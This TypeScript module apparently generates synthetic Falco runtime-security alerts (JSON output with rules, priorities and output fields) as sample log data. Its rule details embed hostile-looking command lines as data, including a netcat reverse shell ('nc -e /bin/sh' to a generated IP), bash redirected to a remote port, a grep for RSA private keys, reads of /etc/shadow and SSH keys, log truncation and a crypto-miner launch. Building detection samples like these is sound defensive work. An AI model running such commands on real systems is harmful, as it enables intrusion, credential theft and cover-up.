// Falco alerts as Falco's JSON output writes them: `hostname, output, priority, rule, source,
// tags, time, output_fields`. The output text starts with the event time and the priority,
// then the rule's message and `key=value` details in parentheses; `output_fields` holds the same
// values under Falco's field names. Host-level alerts have no container or Kubernetes fields
// (Falco writes null for them).

import type { Random } from './random.js';
import type { RawSample, SampleContext } from './types.js';
import { isoWithFraction, type Pod } from './world.js';

type Priority = 'Critical' | 'Error' | 'Warning' | 'Notice' | 'Informational' | 'Debug';

interface Detail {
  readonly text: string;
  /** `key=value` pairs shown in the output. */
  readonly shown: readonly (readonly [string, string | number])[];
  /** Extra output_fields (beyond process, user and container). */
  readonly fields: Readonly<Record<string, string | number>>;
  readonly process: { readonly name: string; readonly cmdline: string; readonly parent: string; readonly exepath: string };
  readonly user: string;
}

interface FalcoRule {
  readonly rule: string;
  readonly priority: Priority;
  readonly tags: readonly string[];
  readonly weight: number;
  /** Whether the rule also fires for processes on the host (no container). */
  readonly onHost?: boolean;
  readonly detail: (pod: Pod, rng: Random) => Detail;
}

const shell = (r: Random): string => r.pick(['bash', 'sh', 'ash']);

const RULES: readonly FalcoRule[] = [
  {
    rule: 'Terminal shell in container',
    priority: 'Notice',
    tags: ['container', 'shell', 'mitre_execution', 'T1059'],
    weight: 18,
    detail: (_p, r) => {
      const name = shell(r);
      return { text: 'Shell started in a container with a terminal attached', shown: [['evt_type', 'execve']], fields: { 'evt.type': 'execve', 'proc.tty': 34816 }, process: { name, cmdline: `${name} -il`, parent: 'runc', exepath: `/bin/${name}` }, user: 'root' };
    },
  },
  {
    rule: 'Read sensitive file untrusted',
    priority: 'Warning',
    tags: ['container', 'host', 'filesystem', 'mitre_credential_access', 'T1555'],
    weight: 14,
    onHost: true,
    detail: (p, r) => {
      const file = r.pick(['/etc/shadow', '/etc/sudoers', '/root/.ssh/id_rsa', '/etc/pam.d/common-auth']);
      const name = r.pick(['cat', 'python3', 'find', p.workload.process]);
      return { text: 'Sensitive file read by a program not trusted to read it', shown: [['file', file], ['evt_type', 'openat']], fields: { 'fd.name': file, 'evt.type': 'openat' }, process: { name, cmdline: `${name} ${file}`, parent: shell(r), exepath: `/usr/bin/${name}` }, user: 'root' };
    },
  },
  {
    rule: 'Contact K8S API Server From Container',
    priority: 'Notice',
    tags: ['container', 'network', 'k8s', 'mitre_discovery', 'T1565'],
    weight: 12,
    detail: (_p, r) => {
      const target = `${r.ipv4('172.20.0')}:443`;
      return { text: 'Container opened an unexpected connection to the Kubernetes API server', shown: [['connection', target]], fields: { 'fd.name': target, 'evt.type': 'connect' }, process: { name: 'curl', cmdline: 'curl -sk https://kubernetes.default.svc/api/v1/namespaces', parent: 'sh', exepath: '/usr/bin/curl' }, user: 'root' };
    },
  },
  {
    rule: 'Launch Privileged Container',
    priority: 'Informational',
    tags: ['container', 'cis', 'mitre_execution', 'T1610'],
    weight: 8,
    detail: (p) => ({ text: 'Privileged container started', shown: [['privileged', 'true']], fields: { 'container.privileged': 'true', 'evt.type': 'container' }, process: { name: p.workload.process, cmdline: p.workload.process, parent: 'containerd-shim', exepath: `/usr/bin/${p.workload.process}` }, user: 'root' }),
  },
  {
    rule: 'Launch Sensitive Mount Container',
    priority: 'Informational',
    tags: ['container', 'cis', 'mitre_execution', 'T1610'],
    weight: 6,
    detail: (p) => ({ text: 'Container started with a sensitive host path mounted', shown: [['mounts', '/var/run/docker.sock:/var/run/docker.sock']], fields: { 'container.mounts': '/var/run/docker.sock:/var/run/docker.sock', 'evt.type': 'container' }, process: { name: p.workload.process, cmdline: p.workload.process, parent: 'containerd-shim', exepath: `/usr/bin/${p.workload.process}` }, user: 'root' }),
  },
  {
    rule: 'Write below etc',
    priority: 'Error',
    tags: ['container', 'host', 'filesystem', 'mitre_persistence', 'T1098'],
    weight: 6,
    onHost: true,
    detail: (_p, r) => {
      const file = r.pick(['/etc/hosts', '/etc/passwd', '/etc/ld.so.preload', '/etc/cron.d/update']);
      return { text: 'File below /etc opened for writing', shown: [['file', file]], fields: { 'fd.name': file, 'evt.type': 'openat' }, process: { name: 'tee', cmdline: `tee -a ${file}`, parent: shell(r), exepath: '/usr/bin/tee' }, user: 'root' };
    },
  },
  {
    rule: 'Clear Log Activities',
    priority: 'Warning',
    tags: ['container', 'host', 'filesystem', 'mitre_defense_evasion', 'T1070'],
    weight: 4,
    onHost: true,
    detail: (_p, r) => {
      const file = r.pick(['/var/log/auth.log', '/var/log/syslog', '/var/log/nginx/access.log']);
      return { text: 'Log file truncated', shown: [['file', file]], fields: { 'fd.name': file, 'evt.type': 'openat' }, process: { name: 'truncate', cmdline: `truncate -s 0 ${file}`, parent: 'bash', exepath: '/usr/bin/truncate' }, user: 'root' };
    },
  },
  {
    rule: 'Search Private Keys or Passwords',
    priority: 'Warning',
    tags: ['container', 'host', 'process', 'mitre_credential_access', 'T1552.001'],
    weight: 5,
    detail: () => ({ text: 'Search for private keys or passwords', shown: [], fields: { 'evt.type': 'execve' }, process: { name: 'grep', cmdline: 'grep -r BEGIN RSA PRIVATE /', parent: 'bash', exepath: '/bin/grep' }, user: 'root' }),
  },
  {
    rule: 'Redirect STDOUT/STDIN to Network Connection in Container',
    priority: 'Notice',
    tags: ['container', 'network', 'process', 'mitre_execution', 'T1059'],
    weight: 4,
    detail: (_p, r) => {
      const peer = `${r.ipv4('185.220')}:4444`;
      return { text: 'Standard input or output of a process redirected to a network connection', shown: [['connection', peer]], fields: { 'fd.name': peer, 'evt.type': 'dup2' }, process: { name: 'bash', cmdline: 'bash -i', parent: 'python3', exepath: '/bin/bash' }, user: 'www-data' };
    },
  },
  {
    rule: 'Netcat Remote Code Execution in Container',
    priority: 'Warning',
    tags: ['container', 'network', 'process', 'mitre_execution', 'T1059'],
    weight: 3,
    detail: (_p, r) => ({ text: 'Netcat started with an option that allows remote code execution', shown: [], fields: { 'evt.type': 'execve' }, process: { name: 'nc', cmdline: `nc -e /bin/sh ${r.ipv4('45.9')} 9001`, parent: 'sh', exepath: '/usr/bin/nc' }, user: 'root' }),
  },
  {
    rule: 'Packet socket created in container',
    priority: 'Notice',
    tags: ['container', 'network', 'mitre_credential_access', 'T1557.002'],
    weight: 3,
    detail: () => ({ text: 'Packet socket created in a container', shown: [['socket', 'AF_PACKET']], fields: { 'evt.type': 'socket' }, process: { name: 'tcpdump', cmdline: 'tcpdump -i eth0 -w /tmp/cap.pcap', parent: 'bash', exepath: '/usr/sbin/tcpdump' }, user: 'root' }),
  },
  {
    rule: 'Drop and execute new binary in container',
    priority: 'Critical',
    tags: ['container', 'process', 'mitre_persistence', 'TA0003', 'PCI_DSS_11.5.1'],
    weight: 4,
    detail: (_p, r) => {
      const bin = `/tmp/${r.pick(['.cache/kworker', 'xmr', 'update.sh', 'svc'])}`;
      return { text: 'Executable not part of the container image was run', shown: [['exe', bin]], fields: { 'proc.is_exe_upper_layer': 'true', 'evt.type': 'execve' }, process: { name: bin.split('/').pop()!, cmdline: bin, parent: 'sh', exepath: bin }, user: 'root' };
    },
  },
  {
    rule: 'Detect outbound connections to common miner pool ports',
    priority: 'Critical',
    tags: ['container', 'host', 'network', 'mitre_impact', 'T1496'],
    weight: 3,
    detail: (_p, r) => {
      const peer = `${r.ipv4('45.9')}:${r.pick([3333, 4444, 14444])}`;
      return { text: 'Outbound connection to a port used by crypto-mining pools', shown: [['connection', peer]], fields: { 'fd.name': peer, 'evt.type': 'connect' }, process: { name: 'xmrig', cmdline: 'xmrig --donate-level 1', parent: 'sh', exepath: '/tmp/xmrig' }, user: 'root' };
    },
  },
  {
    rule: 'Debugfs Launched in Privileged Container',
    priority: 'Warning',
    tags: ['container', 'cis', 'process', 'mitre_privilege_escalation', 'T1611'],
    weight: 2,
    detail: () => ({ text: 'debugfs started in a privileged container', shown: [], fields: { 'evt.type': 'execve' }, process: { name: 'debugfs', cmdline: 'debugfs /dev/nvme0n1p1', parent: 'bash', exepath: '/sbin/debugfs' }, user: 'root' }),
  },
  {
    rule: 'Falco internal: syscall event drop',
    priority: 'Debug',
    tags: [],
    weight: 1,
    onHost: true,
    detail: (_p, r) => ({ text: 'Falco dropped syscall events', shown: [['n_drops', r.int(10, 5000)]], fields: {}, process: { name: 'falco', cmdline: 'falco', parent: 'containerd-shim', exepath: '/usr/bin/falco' }, user: 'root' }),
  },
];

function falcoTime(time: number, rng: Random): string {
  return isoWithFraction(time, String(rng.int(0, 999999)).padStart(6, '0'));
}

export function falcoSamples({ rng, world }: SampleContext, times: readonly number[]): RawSample[] {
  return times.map((time) => {
    const rule = rng.weighted(RULES, (r) => r.weight);
    const pod = world.pickPod(rng);
    const onHost = rule.onHost === true && rng.chance(0.25);
    const d = rule.detail(pod, rng);
    const iso = falcoTime(time, rng);
    const container = onHost
      ? { 'container.id': 'host', 'container.name': 'host', 'container.image.repository': null, 'container.image.tag': null, 'k8s.ns.name': null, 'k8s.pod.name': null }
      : {
          'container.id': pod.containerId,
          'container.name': pod.workload.name,
          'container.image.repository': pod.workload.image,
          'container.image.tag': pod.workload.tag,
          'k8s.ns.name': pod.workload.namespace,
          'k8s.pod.name': pod.name,
        };
    const shown: (readonly [string, string | number])[] = [
      ...d.shown,
      ['user', d.user],
      ['process', d.process.name],
      ['parent', d.process.parent],
      ['command', d.process.cmdline],
      ['container_id', container['container.id']],
      ['container_name', container['container.name']],
      ...(onHost ? [] : ([['image', `${pod.workload.image}:${pod.workload.tag}`], ['k8s_ns', pod.workload.namespace], ['k8s_pod', pod.name]] as const)),
    ];
    const output = `${iso.replace('Z', '+0000')}: ${rule.priority} ${d.text} (${shown.map(([k, v]) => `${k}=${v}`).join(' ')})`;
    const raw = {
      hostname: pod.node,
      output,
      priority: rule.priority,
      rule: rule.rule,
      source: 'syscall',
      tags: rule.tags,
      time: iso,
      output_fields: {
        ...container,
        ...d.fields,
        'proc.cmdline': d.process.cmdline,
        'proc.exepath': d.process.exepath,
        'proc.name': d.process.name,
        'proc.pname': d.process.parent,
        'user.name': d.user,
        'user.uid': d.user === 'root' ? 0 : 33,
      },
    };
    return { time, raw };
  });
}
